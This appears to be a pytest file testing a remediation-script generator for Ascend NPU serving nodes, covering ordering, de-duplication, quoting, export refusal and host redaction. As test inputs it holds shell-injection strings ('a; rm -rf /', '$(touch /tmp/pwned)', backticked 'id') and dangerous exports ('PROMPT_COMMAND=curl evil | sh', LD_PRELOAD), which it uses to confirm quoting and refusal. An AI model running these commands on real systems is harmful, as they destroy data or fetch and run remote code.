"""--fix-plan: every remediation of a run as one ordered, de-duplicated script (host, container, launch
script), the environment part as fix-env prints it, every command word shell-quoted, nothing run."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
from pathlib import Path

import jsonschema
import pytest
from conftest import assert_no_traceback, clean_env, run_in_process, write_executable

from glm5check.remedy import build_fix_plan
from glm5check.reports.fix_plan import SECTIONS, command_line, render_fix_plan
from glm5check.reports.model import FixStep, Report, Row

HEADINGS = [f"# ── {n}. {title} " for n, title in enumerate(SECTIONS.values(), 1)]


@pytest.fixture(scope="module")
def node1_plan() -> tuple[int, str]:
    done = run_in_process("--profile", "a2-multi", "--replay", "demo:a2-node1", "--fix-plan")
    assert_no_traceback(done)
    return done.returncode, done.stdout


def _report_json(*args: str) -> dict:
    return json.loads(run_in_process("--profile", "a2-multi", *args, "--format", "json").stdout)


def test_every_problem_has_one_comment_in_its_section(node1_plan: tuple[int, str]) -> None:
    code, text = node1_plan
    assert code == 1 and text.startswith("#!/bin/sh\n")
    positions = [text.index(h) for h in HEADINGS]
    assert positions == sorted(positions)  # host, then the container, then the launch script
    report = _report_json("--replay", "demo:a2-node1")
    problems = [r for r in report["results"] if r["status"] in ("fail", "error", "warn")]
    for row in problems:
        label = f"{row['id']}[{row['item']}]" if row["item"] else row["id"]
        assert len(re.findall(rf"^# {row['status'].upper()} {re.escape(label)}: ", text, re.M)) == 1, label
    host, container, launch = (text[a:b] for a, b in zip(positions, [*positions[1:], len(text)]))
    assert "npu.network[device 5]" in host and "hccn_tool -i 5 -link_stat -g\n" in host
    assert "\npip install 'torch-npu==2.9.0'\n" in container or "\npip install torch-npu==2.9.0\n" in container
    assert "serve.args[--enable-expert-paralel]" in launch


def test_the_environment_part_is_what_fix_env_exports(node1_plan: tuple[int, str]) -> None:
    _, text = node1_plan
    fix_env = run_in_process("fix-env", "--profile", "a2-multi", "--replay", "demo:a2-node1").stdout
    exports = [line.split("  #")[0] for line in fix_env.splitlines() if line.startswith("export ")]
    planned = [line.split("  #")[0] for line in text.splitlines() if line.startswith("export ")]
    assert planned == exports == ["export HCCL_SOCKET_IFNAME=enp189s0f0", "export GLOO_SOCKET_IFNAME=enp189s0f0"]
    # The net.interfaces rows share those exports: no other fix of theirs.
    assert "fix: export HCCL_SOCKET_IFNAME" not in text and "#   export HCCL_SOCKET_IFNAME" not in text


def _row(label: str, status: str = "fail", *steps: FixStep, remediation: str | None = None) -> Row:
    check_id, _, item = label.partition("[")
    return Row(check_id, item.rstrip("]") or None, check_id.split(".")[0], "t", status, f"{label} is wrong",
               remediation=remediation, fix=steps)  # fmt: skip


def _report(*rows: Row) -> Report:
    report = Report.from_json(_report_json("--replay", "demo"))
    return Report(report.tool, report.created, report.profile, report.node, report.facts, rows, report.summary)


def test_the_same_fix_needed_by_eleven_rows_appears_once() -> None:
    docker = FixStep("host", (), "recreate the container with docker run … --device=/dev/davinci0 …")
    devices = [_row(f"ascend.devices[/dev/davinci{n}]", "fail", docker) for n in range(11)]
    shm = _row("host.shm[size]", "fail", FixStep("host", (), "docker run … --shm-size=1g"))
    passing = _row("npu.count", "pass", docker)
    text = render_fix_plan(_report(*devices, shm, passing), build_fix_plan(_report(*devices, shm, passing), None))
    assert text.count("recreate the container with docker run") == 1
    assert all(f"# FAIL ascend.devices[/dev/davinci{n}]: " in text for n in range(11))
    assert "npu.count" not in text  # a PASS needs nothing
    assert text.index("davinci10]") < text.index("recreate the container") < text.index("host.shm[size]")


def test_a_remediation_in_words_is_a_comment_in_its_category_section() -> None:
    rows = (_row("weights.path[folder]", "fail", remediation="download the weights"),
            _row("memory.fit", "warn", remediation="lower --max-num-seqs to 1"))  # fmt: skip
    text = render_fix_plan(_report(*rows), build_fix_plan(_report(*rows), None))
    host, launch = text.index(HEADINGS[0]), text.index(HEADINGS[2])
    assert host < text.index("#   download the weights") < launch < text.index("#   lower --max-num-seqs to 1")


HOSTILE = [
    "$(touch /tmp/pwned)",
    "`id`",
    "a; rm -rf /",
    "it's",
    "--flag=$HOME",
    "two  spaces",
    "ünïcode 模型",
    "",
]


def test_every_command_word_is_quoted_and_text_cannot_leave_its_comment(tmp_path: Path) -> None:
    argv = ("pip", "install", *HOSTILE)
    steps = (
        FixStep("container", (("X_VAR=$(id)", "Y=two words", "tool", *HOSTILE), ("cd", "/tmp/a b"), argv)),
        FixStep("launch", (), "edit it\nrm -rf / #\r\u2028also\x1b[31m red\u202e"),
    )
    row = _row("packages.vllm", "fail", *steps)
    row = Row(row.id, row.item, row.category, row.title, row.status, "bad\nmessage\x00; rm -rf /", fix=row.fix)
    text = render_fix_plan(_report(row), build_fix_plan(_report(row), None))
    lines = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert len(lines) == 1  # the only non-comment line is the command step
    (line,) = lines
    assert line.startswith("( ") and line.endswith(" )")  # it changes the directory: a subshell
    parts = [shlex.split(part) for part in line[2:-2].split(" && ")] if "\n" not in line else []
    assert parts[1] == ["cd", "/tmp/a b"] and parts[2] == list(argv)
    assert parts[0][:2] == ["X_VAR=$(id)", "Y=two words"]
    assert all(ch not in text for ch in ("\x00", "\x1b", "\r", "\u2028", "\u202e"))
    assert subprocess.run(["sh", "-n"], input=text, text=True, capture_output=True).returncode == 0
    broken = FixStep("container", (("pip", "install", "x\nrm -rf /"),))
    row = _row("packages.vllm", "fail", broken)
    text = render_fix_plan(_report(row), build_fix_plan(_report(row), None))
    assert [line for line in text.splitlines() if line and not line.startswith("#")] == []
    assert "holds a control character and is not printed" in text
    # Run in a shell with every command replaced by a recorder: each argument arrives exactly as given.
    recorder = write_executable(tmp_path / "bin", "record", '#!/bin/sh\nfor a in "$@"; do printf "%s\\0" "$a"; done\n')
    recorded = subprocess.run(
        ["sh", "-c", f"record {command_line([argv])}"],
        capture_output=True,
        env=clean_env(path_prepend=[recorder.parent]),
    ).stdout.split(b"\0")[:-1]
    assert [a.decode() for a in recorded] == list(argv)


def test_the_environment_part_refuses_what_fix_env_refuses() -> None:
    """A profile from someone else may set a variable through which the shell runs code: the fix plan, like
    fix-env, prints no export of it (a comment says why) and quotes every value it does print."""
    from glm5check.remedy import EnvFixes

    exports = {"PROMPT_COMMAND": "curl evil | sh", "LD_PRELOAD": "/tmp/x.so", "HCCL_BUFFSIZE": "1024; id"}
    plan = build_fix_plan(_report(_row("env.vars[HCCL_BUFFSIZE]")), EnvFixes(exports=exports))
    text = render_fix_plan(_report(), plan)
    assert [line for line in text.splitlines() if line.startswith("export ")] == ["export HCCL_BUFFSIZE='1024; id'"]
    assert "NOT PRINTED: fix-env refuses to export PROMPT_COMMAND" in text
    assert "NOT PRINTED: fix-env refuses to export LD_PRELOAD" in text


def test_fix_plan_never_runs_anything(tmp_path: Path, fake_bin: Path) -> None:
    marker = tmp_path / "ran"
    for tool in ("hccn_tool", "pip", "kill", "git"):
        write_executable(fake_bin, tool, f"#!/bin/sh\ntouch '{marker}'\n")
    done = run_in_process(
        "--profile", "a2-multi", "--replay", "demo:a2-node1", "--fix-plan", env=clean_env(path_prepend=[fake_bin])
    )  # fmt: skip
    assert done.returncode == 1 and "hccn_tool -i 5" in done.stdout and not marker.exists()


def test_a_healthy_node_has_nothing_to_fix() -> None:
    done = run_in_process("--profile", "a2-multi", "--replay", "demo", "--check", "npu.*", "--fix-plan")
    assert done.returncode == 0 and "# nothing to fix" in done.stdout


def test_fix_plan_with_another_format_is_a_usage_error() -> None:
    done = run_in_process("--replay", "demo", "--fix-plan", "--format", "json")
    assert done.returncode == 2 and "--fix-plan writes a script" in done.stderr


def test_json_rows_carry_their_steps_and_validate() -> None:
    from importlib import resources

    report = _report_json("--replay", "demo:a2-node1")
    schema = json.loads(resources.files("glm5check.schema").joinpath("report-v1.json").read_text())
    jsonschema.validate(report, schema)
    (device5,) = [r for r in report["results"] if r["id"] == "npu.network" and r["item"] == "device 5"]
    assert {"where": "host", "commands": [["hccn_tool", "-i", "5", "-link_stat", "-g"]], "text": ""} in device5["fix"]
    assert Report.from_json(report).to_json()["results"] == report["results"]


def test_with_redact_hosts_one_address_has_one_pseudonym_in_the_whole_plan() -> None:
    """Without --redact-salt the masking key is random: the export reasons, the problem rows and the header
    of one fix plan must still go through one masker, or node 0's address reads as two different hosts."""
    from glm5check.commands.options import deployment_context
    from glm5check.session import RunArgs, _fix_plan

    ctx, _ = deployment_context({"profile_name": "a2-multi", "replay": "demo:a2-node1"})
    row = _row("net.interfaces[GLOO_SOCKET_IFNAME]", "fail", remediation="route towards node 0 10.20.0.11")
    row = Row(row.id, row.item, row.category, row.title, row.status, "node 0 is 10.20.0.11", fix=row.fix)
    args = RunArgs(profile_name="a2-multi", replay="demo:a2-node1", redact_hosts=True, fix_plan=True)
    text = _fix_plan(ctx, _report(row), ["net.interfaces"], args)
    assert "10.20.0.11" not in text
    in_row = re.search(r"node 0 is (198\.1[89]\.\d+\.\d+)", text)
    in_export = re.search(r"route towards node 0 (198\.1[89]\.\d+\.\d+)", text)
    assert in_row is not None and in_export is not None, text
    assert in_row.group(1) == in_export.group(1)


def test_the_header_names_a_prefill_decode_nodes_group() -> None:
    done = run_in_process("--profile", "a3-pd-4node", "--node-rank", "2", "--replay", "demo", "--fix-plan")
    assert_no_traceback(done)
    assert "node rank 0 (primary of the decode group)" in " ".join(done.stdout.split("\n# ")[:2])
    plan = run_in_process("plan", "--profile", "a3-pd-4node", "--node-rank", "2", "--replay", "demo")
    assert "node rank 0 (primary of the decode group)" in plan.stdout.splitlines()[0]
